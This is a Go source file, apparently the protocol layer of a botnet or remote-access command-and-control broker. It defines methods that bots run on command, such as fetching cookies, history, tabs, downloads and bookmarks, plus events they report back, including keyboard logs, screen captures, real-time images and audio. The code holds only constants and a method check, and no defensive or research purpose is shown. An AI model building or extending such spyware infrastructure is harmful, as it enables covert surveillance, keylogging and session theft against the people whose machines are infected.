package broker

// Method names a remote procedure a bot can execute. The set is closed:
// dispatch code switches exhaustively over these values instead of
// falling back through a string-keyed handler table.
type Method string

const (
	MethodHTTPRequest         Method = "HTTP_REQUEST"
	MethodAuth                Method = "AUTH"
	MethodGetCookies          Method = "GET_COOKIES"
	MethodGetHistory          Method = "GET_HISTORY"
	MethodGetTabs             Method = "GET_TABS"
	MethodGetDownloads        Method = "GET_DOWNLOADS"
	MethodGetBookmarks        Method = "GET_BOOKMARKS"
	MethodTabNavigateAndFetch Method = "TAB_NAVIGATE_AND_FETCH"
	MethodStopTabNavigate     Method = "STOP_TAB_NAVIGATE"
	MethodStartAudio          Method = "START_AUDIO"
	MethodStopAudio           Method = "STOP_AUDIO"
	MethodPong                Method = "PONG"
)

// Known reports whether m belongs to the closed method set.
func (m Method) Known() bool {
	switch m {
	case MethodHTTPRequest, MethodAuth,
		MethodGetCookies, MethodGetHistory, MethodGetTabs,
		MethodGetDownloads, MethodGetBookmarks,
		MethodTabNavigateAndFetch, MethodStopTabNavigate,
		MethodStartAudio, MethodStopAudio,
		MethodPong:
		return true
	}
	return false
}

func (m Method) String() string { return string(m) }

// Unsolicited event actions a bot may emit with no reply expected.
// Their payloads are opaque to the broker and forwarded verbatim to
// the event sink collaborator.
const (
	EventPing          = "PING"
	EventState         = "STATE"
	EventSync          = "SYNC"
	EventSyncHuge      = "SYNC_HUGE"
	EventRealtimeImage = "REALTIME_IMG"
	EventAudioData     = "AUDIO_DATA"
	EventKeyboardLogs  = "KEYBOARD_LOGS"
	EventScreenCapture = "SCREEN_CAPTURE_DATA"
	EventUserActivity  = "USER_ACTIVITY"
	EventDebugLog      = "DEBUG_LOG"
)
